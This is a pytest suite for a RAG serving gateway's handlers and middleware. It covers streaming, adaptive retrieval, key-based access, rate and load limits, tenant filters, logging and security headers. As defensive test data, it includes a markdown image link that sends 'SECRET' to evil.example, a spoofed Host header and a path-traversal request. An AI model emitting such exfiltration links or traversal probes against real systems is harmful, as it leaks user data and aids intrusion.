"""The handlers and the middleware over a fake backend: answers, streams, access, limits and errors."""

import asyncio
import contextlib
import itertools
import json
import logging
from pathlib import Path
from typing import Any

import pytest

from ragtune_ray import config
from ragtune_ray.evaluation import adaptive, intervals
from ragtune_ray.index import filters
from ragtune_ray.serving import admission
from ragtune_ray.serving.api_keys import Key, Keys
from ragtune_ray.serving.backend import Failed
from ragtune_ray.serving.middleware import check_exposure
from ragtune_ray.serving.requests import ApiError
from tests.support.gateways import PASSAGES, SECRETS, FakeBackend, bearer, client, keys, question

pytestmark = pytest.mark.anyio

CHAT = "/v1/chat/completions"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


def events(text: str) -> list[Any]:
    lines = [line.removeprefix("data: ") for line in text.split("\n\n") if line]
    return [line if line == "[DONE]" else json.loads(line) for line in lines]


@pytest.fixture
def calibrated(tmp_path: Path) -> config.Config:
    settings = config.Config().using(f"workspace={tmp_path}")
    certain = intervals.Interval(0.0, 0.0, 0.0, 40)
    adaptive.publish_calibration(settings, "one", adaptive.RetrievalCalibration(0.6, 0.5, certain, "model"))
    return settings


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("confidence", "retrieved"), [(0.6, False), (0.59, True)])
async def test_auto_retrieves_only_if_the_generator_is_not_confident(
    calibrated: config.Config, confidence: float, retrieved: bool, stream: bool
) -> None:
    backend = FakeBackend()
    backend.confidence = confidence
    async with client(f"workspace={calibrated.workspace}", backend=backend) as http:
        reply = await http.post(CHAT, json=question(retrieval="auto", stream=stream))
        assert reply.status_code == 200, reply.text
        last = events(reply.text)[-2] if stream else reply.json()
        first = events(reply.text)[0] if stream else reply.json()
        assert last["retrieved"] is retrieved
        assert last["index_version"] == ("000007" if retrieved else "")
        assert len(first["sources"]) == (3 if retrieved else 0)
        jobs = [asked[1] for asked in backend.asked if asked[0] in ("complete", "stream")]
        assert [job.closed_book for job in jobs] == ([True, False] if retrieved else [True])
        text = (
            "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in events(reply.text)[:-1])
            if stream
            else last["choices"][0]["message"]["content"]
        )
        assert text.startswith("It is secret0")
        assert [name for name, *_ in backend.asked].count("retrieve") == int(retrieved)
        counted = (await http.get("/metrics")).text
        assert f'ragtune_adaptive_total{{path="{"retrieved" if retrieved else "closed_book"}"}} 1.0' in counted


async def test_a_request_can_override_auto_retrieval_of_the_config(calibrated: config.Config) -> None:
    backend = FakeBackend()
    backend.confidence = 1.0
    async with client(f"workspace={calibrated.workspace}", "serve.retrieval=auto", backend=backend) as http:
        assert (await http.post(CHAT, json=question())).json()["retrieved"] is False
        assert (await http.post(CHAT, json=question(retrieval="always"))).json()["retrieved"] is True
        assert (await http.post(CHAT, json=question(model="base"))).json()["retrieved"] is False
        refused = await http.post(CHAT, json=question(model="base", retrieval="auto"))
        assert (refused.status_code, refused.json()["error"]["code"]) == (409, "not_calibrated")


async def test_auto_without_a_calibration_is_refused() -> None:
    async with client() as http:
        refused = await http.post(CHAT, json=question(retrieval="auto"))
        assert (refused.status_code, refused.json()["error"]["code"]) == (409, "not_calibrated")


async def test_a_stream_sends_sources_first_and_equals_the_plain_answer() -> None:
    async with client() as http:
        plain = (await http.post(CHAT, json=question())).json()
        reply = await http.post(CHAT, json=question(stream=True, stream_options={"include_usage": True}))
        assert reply.headers["content-type"].startswith("text/event-stream")
        *chunks, usage, done = events(reply.text)
        assert done == "[DONE]"
        assert usage["choices"] == []
        assert usage["usage"] == plain["usage"]
        assert chunks[0]["sources"] == plain["sources"]
        assert [source["id"] for source in plain["sources"]] == ["d0#0", "d1#0", "d2#0"]
        assert "content" in chunks[0]["choices"][0]["delta"]
        text = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
        assert text == plain["choices"][0]["message"]["content"] == "It is secret0."
        assert len(chunks) > 4
        last = chunks[-1]
        assert last["choices"][0]["finish_reason"] == "stop"
        assert last["choices"][0]["delta"]["annotations"] == plain["choices"][0]["message"]["annotations"]
        assert last["citations"] == plain["citations"] == [{"id": "d0#0", "document_id": "d0", "start": 0, "end": 33}]
        assert {chunk["id"] for chunk in chunks} == {chunks[0]["id"]}
        assert last["index_version"] == chunks[0]["index_version"] == plain["index_version"] == "000007"
        assert {
            "closed_book_seconds",
            "retrieval_seconds",
            "first_token_seconds",
            "generation_seconds",
            "total_seconds",
        } == set(last["timings"])


async def test_request_fields_reach_the_generator_with_defaults_from_config() -> None:
    async with client("generator.stop=[END]", "seed=5") as http:
        wanted = {"max_tokens": 9, "temperature": 0.5, "stop": ["X"], "seed": 3, "top_k": 2, "model": "rag"}
        await http.post(CHAT, json=question(**wanted))
        await http.post(CHAT, json=question(model="base"))
        (_, text, top_k, _, _), (_, job, seconds), (_, base, _) = http.backend.asked
        assert (text, top_k) == ("What is the code of vessel0?", 2)
        assert (job.max_new_tokens, job.temperature, job.stop, job.seed) == (9, 0.5, ("END", "X"), 3)
        assert 0 < seconds <= 60
        assert (base.arm, base.passages, base.index_version, base.seed, base.stop) == ("base", (), "", 5, ("END",))


async def test_more_stops_than_the_server_behind_accepts_are_refused() -> None:
    served = ("generator.engine=openai", "generator.stop=[END]", "generator.model=m")
    async with client(*served) as http:
        reply = await http.post(CHAT, json=question(stop=["a", "b", "c", "d"]))
        assert (reply.status_code, reply.json()["error"]["param"]) == (400, "stop")
        assert "more than 3" in reply.json()["error"]["message"]
        assert (await http.post(CHAT, json=question(stop=["a", "b", "c"]))).status_code == 200
    async with client("generator.stop=[END]") as http:
        assert (await http.post(CHAT, json=question(stop=["a", "b", "c", "d"]))).status_code == 200


async def test_an_early_error_sets_the_status_and_a_late_one_is_an_event() -> None:
    backend = FakeBackend()
    backend.failure = Failed(503, "no replica", "unavailable", 3.0)
    async with client(backend=backend) as http:
        for body in (question(), question(stream=True)):
            reply = await http.post(CHAT, json=body)
            assert (reply.status_code, reply.headers["retry-after"]) == (503, "3")
            assert reply.json()["error"] == {
                "message": "no replica",
                "type": "server_error",
                "param": None,
                "code": "unavailable",
            }
        backend.fail_after = 2
        reply = await http.post(CHAT, json=question(stream=True))
        assert reply.status_code == 200
        assert events(reply.text)[-1]["error"]["code"] == "unavailable"
        assert "[DONE]" not in reply.text


async def test_a_missed_deadline_stops_the_work_with_504_or_an_event() -> None:
    backend = FakeBackend()
    backend.gate = asyncio.Event()
    async with client(backend=backend) as http:
        reply = await http.post(CHAT, json=question(timeout_seconds=0.05))
        assert (reply.status_code, reply.json()["error"]["code"]) == (504, "deadline_exceeded")
        reply = await http.post(CHAT, json=question(timeout_seconds=0.05, stream=True))
        assert events(reply.text)[-1]["error"]["code"] == "deadline_exceeded"
        assert backend.closed == 1


async def test_overload_is_refused_with_429_before_retrieval() -> None:
    backend = FakeBackend()
    backend.gate = asyncio.Event()
    limits = ["serve.generator.max_ongoing_requests=2", "serve.generator.max_queued_requests=1"]
    async with client(*limits, backend=backend) as http:
        running = [asyncio.ensure_future(http.post(CHAT, json=question(stream=n == 0))) for n in range(3)]
        while len(backend.asked) < 6:  # noqa: ASYNC110
            await asyncio.sleep(0)
        reply = await http.post(CHAT, json=question())
        assert (reply.status_code, reply.json()["error"]["code"]) == (429, "overloaded")
        assert int(reply.headers["retry-after"]) >= 1
        assert len(backend.asked) == 6
        backend.gate.set()
        assert [reply.status_code for reply in await asyncio.gather(*running)] == [200] * 3
        assert (await http.post(CHAT, json=question())).status_code == 200, "every slot was released"
        assert http.middleware.in_flight == 0


async def test_a_draining_endpoint_refuses_requests_and_is_not_ready() -> None:
    async with client() as http:
        http.middleware.draining = True
        reply = await http.post(CHAT, json=question())
        assert (reply.status_code, reply.json()["error"]["code"]) == (503, "draining")
        assert reply.headers["retry-after"]
        assert (await http.get("/readyz")).status_code == 503
        assert (await http.get("/healthz")).status_code == 200


async def test_every_route_has_a_policy_and_enforces_it() -> None:
    async with client(keys=keys()) as http:
        app = http.middleware.app
        found = {(method, route.path) for route in app.routes for method in route.methods - {"HEAD"}}
        assert found == set(http.middleware.routes), "a route without a policy"
        presented = {
            "none": {},
            "wrong": {"Authorization": "Bearer wrong-key-0123456789"},
            "scheme": {"Authorization": f"Basic {SECRETS['admin']}"},
            "user": bearer("user"),
            "admin": bearer("admin"),
        }
        for (method, path), (name, headers) in itertools.product(sorted(found), presented.items()):
            right = http.middleware.routes[method, path].right
            reply = await http.request(method, path, headers=headers, json={})
            allowed = right == "public" or name == "admin" or (right == "key" and name == "user")
            expected = 403 if right == "admin" and name == "user" else 401
            assert (reply.status_code not in (401, 403)) if allowed else (reply.status_code == expected), (
                method,
                path,
                name,
            )
        assert {asked[0] for asked in http.backend.asked} == {"list"}, "an empty body never reaches the backend"
        rights = {place: route.right for place, route in http.middleware.routes.items()}
        assert {place for place, right in rights.items() if right == "public"} == {
            ("GET", path)
            for path in (
                *("/", "/page/style.css", "/page/script.js", "/page/icon.svg"),
                *("/healthz", "/readyz", "/version", "/openapi.json"),
            )
        }
        assert {place for place, right in rights.items() if right == "admin"} == {
            ("POST", "/v1/documents"),
            ("DELETE", "/v1/documents"),
            ("POST", "/v1/documents/delete"),
            ("GET", "/metrics"),
        }


async def test_the_key_is_checked_before_the_body_is_read() -> None:
    async def endless():
        yield b"{"
        raise AssertionError("the body was read")

    async with client(keys=keys()) as http:
        reply = await http.post(CHAT, content=endless(), headers={"content-type": "application/json"})
        assert reply.status_code == 401
        assert reply.headers["www-authenticate"] == "Bearer"


@pytest.mark.parametrize(
    ("address", "headers"),
    [
        ("10.0.0.7", {}),
        ("127.0.0.1", {"host": "evil.example"}),
        ("127.0.0.1", {"x-forwarded-for": "10.0.0.7"}),
        ("", {}),
    ],
)
async def test_without_keys_only_requests_from_localhost_are_served(address: str, headers: dict[str, str]) -> None:
    async with client(address=address) as http:
        for path in ("/", "/v1/models", "/openapi.json"):
            assert (await http.get(path, headers=headers)).status_code == 403
    async with client() as http:
        assert (await http.get("/v1/models", headers={"host": "localhost:8000"})).status_code == 200


def test_listening_on_a_public_host_requires_keys() -> None:
    settings = config.Config().using("serve.host=0.0.0.0")
    with pytest.raises(config.ConfigError, match=r"serve\.host '0\.0\.0\.0'.*keys_path"):
        check_exposure(settings, Keys([]))
    check_exposure(settings, keys())
    check_exposure(config.Config(), Keys([]))


async def test_bodies_of_wrong_type_size_or_shape_are_refused() -> None:
    async with client("serve.max_body_bytes=1000") as http:

        async def status(content: Any, **headers: str) -> int:
            headers = {"content-type": "application/json", **{k.replace("_", "-"): v for k, v in headers.items()}}
            return (await http.post(CHAT, content=content, headers=headers)).status_code

        async def pieces():
            for _ in range(3):
                yield b" " * 500

        assert await status(b" " * 1001) == 413
        assert await status(pieces()) == 413
        assert await status(b"{}", content_type="text/plain") == 415
        assert await status(b"{}", content_encoding="gzip") == 415
        assert await status(b"{}") == 400
        assert (await http.post("/v1/nothing", json={})).status_code == 404
        assert (await http.get(CHAT)).status_code == 405
        assert (await http.head("/healthz")).status_code == 200
        for reply in (await http.post("/v1/nothing", json={}), await http.post(CHAT, json={})):
            assert set(reply.json()["error"]) == {"message", "type", "param", "code"}


async def test_a_filter_only_narrows_what_the_key_may_see() -> None:
    async with client(
        "index.tenant_field=owner", "retrieval.filter={year: 2020}", keys=keys(user="a", other="b")
    ) as http:
        for name, tenant in (("user", "a"), ("other", "b")):
            for wanted in (None, {"owner": "b"}, {"owner": ["a", "b"]}, {"owner": {"gte": ""}}, {"year": [2020, 2021]}):
                http.backend.asked.clear()
                reply = await http.post("/v1/retrieve", json={"query": "x", "filter": wanted}, headers=bearer(name))
                assert reply.status_code == 200
                chosen = http.backend.asked[0][3]
                assert set(filters.tenant_filter("owner", tenant).conditions) <= set(chosen.conditions)
                assert set(filters.parse_filter({"year": 2020}).conditions) <= set(chosen.conditions)
        reply = await http.post("/v1/retrieve", json={"query": "x"}, headers=bearer("admin"))
        assert (reply.status_code, reply.json()["error"]["code"]) == (403, "no_tenant")
        reply = await http.post(CHAT, json=question(), headers=bearer("admin"))
        assert reply.status_code == 403
        for wrong in ({"owner": []}, {"owner": {"like": "x"}}, {"x": [[]]}, {"x": None}):
            reply = await http.post("/v1/retrieve", json={"query": "x", "filter": wrong}, headers=bearer("user"))
            assert (reply.status_code, reply.json()["error"]["code"]) == (400, "invalid_filter")


async def test_the_rate_limit_of_a_key_does_not_affect_another() -> None:
    slow = Key.model_validate({"name": "slow", "key": SECRETS["user"], "requests_per_minute": 1})
    free = Key.model_validate({"name": "free", "key": SECRETS["other"]})
    async with client(keys=Keys([slow, free])) as http:
        codes = [(await http.post(CHAT, json=question(), headers=bearer("user"))).status_code for _ in range(2)]
        assert codes == [200, 429]
        assert (await http.post(CHAT, json=question(), headers=bearer("other"))).status_code == 200


async def test_log_and_errors_contain_no_question_key_or_path(caplog: pytest.LogCaptureFixture) -> None:
    class Broken(FakeBackend):
        async def retrieve(self, text, top_k, visible, seconds, parts=()):
            raise RuntimeError(f"cannot encode {text!r} with /home/x/model")

    with caplog.at_level(logging.DEBUG):
        async with client(backend=Broken(), keys=keys()) as http:
            reply = await http.post(CHAT, json=question("What is my SECRET-QUESTION?"), headers=bearer("user"))
            assert (reply.status_code, reply.json()["error"]["code"]) == (500, "internal_error")
            assert "/home" not in reply.text
    assert "RuntimeError" in caplog.text, "the log names the exception"
    assert "test_handlers.py" in caplog.text, "and its place"
    for hidden in ("SECRET-QUESTION", SECRETS["user"], "/home/x"):
        assert hidden not in caplog.text


async def test_every_response_has_security_headers_and_no_inline_scripts() -> None:
    async with client() as http:
        for path in ("/", "/v1/models", "/nothing"):
            headers = (await http.get(path)).headers
            assert "script-src 'self'" in headers["content-security-policy"]
            assert "unsafe" not in headers["content-security-policy"]
            assert headers["x-content-type-options"] == "nosniff"
        assert (await http.get("/page/../../pyproject.toml")).status_code == 404


async def test_metrics_count_by_route_and_contain_no_content() -> None:
    async with client() as http:
        await http.post(CHAT, json=question("What is my SECRET-QUESTION?"))
        await http.post("/v1/whatever/SECRET-PATH", json={})
        text = (await http.get("/metrics")).text
        assert 'ragtune_requests_total{route="/v1/chat/completions",status="200"} 1.0' in text
        assert 'ragtune_requests_total{route="other",status="404"} 1.0' in text
        assert 'ragtune_index_version_info{version="000007"} 1.0' in text
        assert "ragtune_completion_tokens_total 5.0" in text
        assert "SECRET" not in text


async def test_embeddings_the_encoder_cannot_make_are_refused() -> None:
    async with client() as http:
        ok = await http.post("/v1/embeddings", json={"input": ["a", "b"], "dimensions": 4, "input_type": "passage"})
        assert [row["embedding"][row["index"]] for row in ok.json()["data"]] == [1.0, 1.0]
        assert http.backend.asked[-1] == ("embed", ["a", "b"], "passage")
        for wrong in ({"dimensions": 3}, {"model": "other"}, {"input": [" "]}, {"input": ["a"] * 2049}, {"input": []}):
            assert (await http.post("/v1/embeddings", json={"input": "a"} | wrong)).status_code in (400, 404)


async def test_a_full_endpoint_refuses_before_reading_the_body() -> None:
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        raise AssertionError("the body was read")

    async def send(message: Any) -> None:
        sent.append(message)

    async with client() as http:
        for route in http.middleware.routes.values():
            if route.load is not None:
                route.load.capacity = 0
        headers = [(b"host", b"127.0.0.1"), (b"content-type", b"application/json"), (b"content-length", b"9")]
        scope = {"type": "http", "method": "POST", "headers": headers, "client": ("127.0.0.1", 1)}
        for path in (CHAT, "/v1/retrieve", "/v1/embeddings"):
            sent.clear()
            await http.middleware({**scope, "path": path}, receive, send)
            assert sent[0]["status"] == 429
            assert dict(sent[0]["headers"])[b"retry-after"] == b"1"
            assert json.loads(sent[1]["body"])["error"]["code"] == "overloaded"
        assert http.middleware.in_flight == 0


async def test_links_from_a_document_are_removed_from_answers() -> None:
    backend = FakeBackend()
    backend.raw = "It is ![x](https://evil.example/?q=SECRET) secret0 [1]."
    async with client(backend=backend) as http:
        plain = (await http.post(CHAT, json=question())).json()["choices"][0]["message"]["content"]
        streamed = (await http.post(CHAT, json=question(stream=True))).text
        assert plain == "It is x secret0."
        assert "evil.example" not in streamed


async def test_a_failed_retrieval_keeps_its_own_status() -> None:
    backend = FakeBackend()
    backend.retrieval_error = ApiError(409, "there is no index", code="no_index")
    async with client(backend=backend) as http:
        for path, body in ((CHAT, question()), (CHAT, question(stream=True)), ("/v1/retrieve", {"query": "x"})):
            assert (await http.post(path, json=body)).status_code == 409
    assert PASSAGES


def test_idle_time_does_not_count_towards_the_throughput(monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr(admission.time, "monotonic", lambda: now[0])
    load = admission.Load(capacity=80)
    for _ in range(6):  # two requests for half a second, once a minute
        now[0] += 60
        pair = [contextlib.ExitStack() for _ in range(2)]
        for each in pair:
            each.enter_context(load.admit(5))
        for each in pair:
            now[0] += 0.25
            each.close()
    with contextlib.ExitStack() as burst:
        for _ in range(16):
            burst.enter_context(load.admit(60))
    assert load.seconds_per_request <= 1


def test_a_request_that_would_wait_too_long_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    now = [0.0]
    monkeypatch.setattr(admission.time, "monotonic", lambda: now[0])
    load = admission.Load(capacity=100)
    waiting = contextlib.ExitStack()
    ends = [contextlib.ExitStack() for _ in range(10)]
    for each in ends:
        each.enter_context(load.admit(60))
    for each in ends[:6]:  # one completes every three seconds
        now[0] += 3
        each.close()
    assert load.seconds_per_request == pytest.approx(3)
    for _ in range(16):  # now twenty are in flight: the next one waits a minute
        waiting.enter_context(load.admit(60))
    with pytest.raises(ApiError) as raised, load.admit(59):
        pass
    assert (raised.value.status, raised.value.retry_after_seconds) == (429, 60)
    with load.admit(61):
        pass
    waiting.close()


async def test_a_timeout_is_a_504_on_every_route() -> None:
    class Late(FakeBackend):
        async def embed(self, texts, input_type, seconds):
            raise TimeoutError

        async def change_documents(self, change, seconds):
            raise TimeoutError

    async with client("serve.keys_path=", backend=Late(), keys=keys()) as http:
        document = {"document_id": "a", "text": "x"}
        for method, path, body in (
            ("POST", "/v1/embeddings", {"input": "a"}),
            ("POST", "/v1/documents", {"documents": [document]}),
            ("DELETE", "/v1/documents", {"document_ids": ["a"]}),
        ):
            reply = await http.request(method, path, json=body, headers=bearer("admin"))
            assert (reply.status_code, reply.json()["error"]["code"]) == (504, "deadline_exceeded"), path
